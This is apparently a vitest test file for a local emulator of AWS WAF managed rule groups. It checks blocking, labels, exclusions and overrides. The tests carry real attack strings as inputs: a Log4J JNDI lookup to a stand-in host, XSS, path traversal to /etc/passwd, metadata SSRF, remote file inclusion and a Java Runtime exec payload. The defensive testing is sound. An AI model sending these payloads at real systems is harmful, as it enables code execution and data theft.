// Local CRS and KnownBadInputs: documented rules fire, with AWS's labels; overrides and exclusions apply.
import { describe, expect, it } from "vitest";
import { wafRequest } from "../../../../test/support/waf/requests.js";
import { createStaticGeoLookup } from "../../geo/index.js";
import { createWafEngine } from "./engine.js";

const geo = createStaticGeoLookup({});
// Built from parts so it reads as the attack string it is, not as a template placeholder.
const LOG4J_PAYLOAD = ["$", "{jndi:ldap://evil.example/a}"].join("");

function managed(Name: string, extra: Record<string, unknown> = {}, OverrideAction: unknown = { None: {} }) {
  return createWafEngine({
    webAcl: {
      DefaultAction: { Allow: {} },
      Rules: [
        {
          Name: `AWS-${Name}`,
          Priority: 0,
          OverrideAction,
          Statement: { ManagedRuleGroupStatement: { VendorName: "AWS", Name, ...extra } },
        },
      ],
    },
    geo,
  });
}

describe("AWSManagedRulesCommonRuleSet", () => {
  const crs = managed("AWSManagedRulesCommonRuleSet");

  it("lets an ordinary browser or fetch request through", () => {
    expect(crs.evaluate(wafRequest({ body: Buffer.from('{"code":"abc-123"}') })).action).toBe("ALLOW");
    expect(crs.evaluate(wafRequest({ headers: { "user-agent": "node" } })).action).toBe("ALLOW");
  });

  it("blocks a request without User-Agent (NoUserAgent_HEADER)", () => {
    const decision = crs.evaluate(wafRequest({ headers: {} }));
    expect(decision).toMatchObject({
      action: "BLOCK",
      terminatingRule: "AWS-AWSManagedRulesCommonRuleSet",
      terminatingRuleGroupRule: "NoUserAgent_HEADER",
    });
    expect(decision.labels).toContain("awswaf:managed:aws:core-rule-set:NoUserAgent_Header");
  });

  it("blocks a body over 8 KB (SizeRestrictions_BODY)", () => {
    const decision = crs.evaluate(wafRequest({ body: Buffer.alloc(8193, "a") }));
    expect(decision.terminatingRuleGroupRule).toBe("SizeRestrictions_BODY");
    expect(crs.evaluate(wafRequest({ body: Buffer.alloc(8192, "a") })).action).toBe("ALLOW");
  });

  it("blocks XSS in a query argument (CrossSiteScripting_QUERYARGUMENTS)", () => {
    const decision = crs.evaluate(
      wafRequest({ queryString: "q=%3Cscript%3Ealert(%22hello%22)%3C/script%3E" }),
    );
    expect(decision.terminatingRuleGroupRule).toBe("CrossSiteScripting_QUERYARGUMENTS");
    expect(decision.labels).toContain("awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments");
  });

  it("blocks path traversal, metadata SSRF and RFI in query arguments", () => {
    expect(
      crs.evaluate(wafRequest({ queryString: "file=..%2F..%2Fetc%2Fpasswd" })).terminatingRuleGroupRule,
    ).toBe("GenericLFI_QUERYARGUMENTS");
    expect(
      crs.evaluate(wafRequest({ queryString: "u=http://169.254.169.254/latest" })).terminatingRuleGroupRule,
    ).toBe("EC2MetaDataSSRF_QUERYARGUMENTS");
    expect(crs.evaluate(wafRequest({ queryString: "u=http://203.0.113.5/x" })).terminatingRuleGroupRule).toBe(
      "GenericRFI_QUERYARGUMENTS",
    );
  });

  it("honours ExcludedRules by counting the rule instead of blocking", () => {
    const waf = managed("AWSManagedRulesCommonRuleSet", { ExcludedRules: [{ Name: "NoUserAgent_HEADER" }] });
    const decision = waf.evaluate(wafRequest({ headers: {} }));
    expect(decision.action).toBe("ALLOW");
    expect(decision.countedRules).toEqual(["AWS-AWSManagedRulesCommonRuleSet:NoUserAgent_HEADER"]);
    expect(decision.labels).toContain("awswaf:managed:aws:core-rule-set:NoUserAgent_Header");
  });

  it("honours RuleActionOverrides and OverrideAction Count", () => {
    const overridden = managed("AWSManagedRulesCommonRuleSet", {
      RuleActionOverrides: [{ Name: "SizeRestrictions_BODY", ActionToUse: { Count: {} } }],
    });
    expect(overridden.evaluate(wafRequest({ body: Buffer.alloc(9000, "a") })).action).toBe("ALLOW");
    const counting = managed("AWSManagedRulesCommonRuleSet", {}, { Count: {} });
    const decision = counting.evaluate(wafRequest({ headers: {} }));
    expect(decision.action).toBe("ALLOW");
    expect(decision.countedRules).toContain("AWS-AWSManagedRulesCommonRuleSet:NoUserAgent_HEADER");
  });
});

describe("AWSManagedRulesKnownBadInputsRuleSet", () => {
  const kbi = managed("AWSManagedRulesKnownBadInputsRuleSet");

  it("blocks a Log4J lookup in a header (Log4JRCE_HEADER)", () => {
    const decision = kbi.evaluate(
      wafRequest({ headers: { "user-agent": "x", "x-api-version": LOG4J_PAYLOAD } }),
    );
    expect(decision.terminatingRuleGroupRule).toBe("Log4JRCE_HEADER");
    expect(decision.labels).toContain("awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header");
  });

  it("blocks the PROPFIND method", () => {
    expect(kbi.evaluate(wafRequest({ method: "PROPFIND" })).terminatingRuleGroupRule).toBe("PROPFIND_METHOD");
  });

  it("blocks a localhost Host, but not the distribution domain the kit passes", () => {
    expect(kbi.evaluate(wafRequest({ host: "localhost:8080" })).terminatingRuleGroupRule).toBe(
      "Host_localhost_HEADER",
    );
    expect(kbi.evaluate(wafRequest()).action).toBe("ALLOW");
  });

  it("blocks exploitable paths and Java deserialization payloads", () => {
    expect(kbi.evaluate(wafRequest({ uri: "/app/WEB-INF/web.xml" })).terminatingRuleGroupRule).toBe(
      "ExploitablePaths_URIPATH",
    );
    const body = Buffer.from('(java.lang.Runtime).getRuntime().exec("whoami")');
    expect(kbi.evaluate(wafRequest({ body })).terminatingRuleGroupRule).toBe("JavaDeserializationRCE_BODY");
  });
});

describe("groups the kit does not emulate", () => {
  it("names them at start-up and lets them match nothing", () => {
    const waf = managed("AWSManagedRulesAmazonIpReputationList");
    expect(waf.notEmulated[0]).toMatch(
      /AWSManagedRulesAmazonIpReputationList is not emulated \(needs AWS threat-intelligence/,
    );
    expect(waf.evaluate(wafRequest()).action).toBe("ALLOW");
    expect(managed("AWSManagedRulesLinuxRuleSet").notEmulated[0]).toMatch(/not documented/);
  });
});
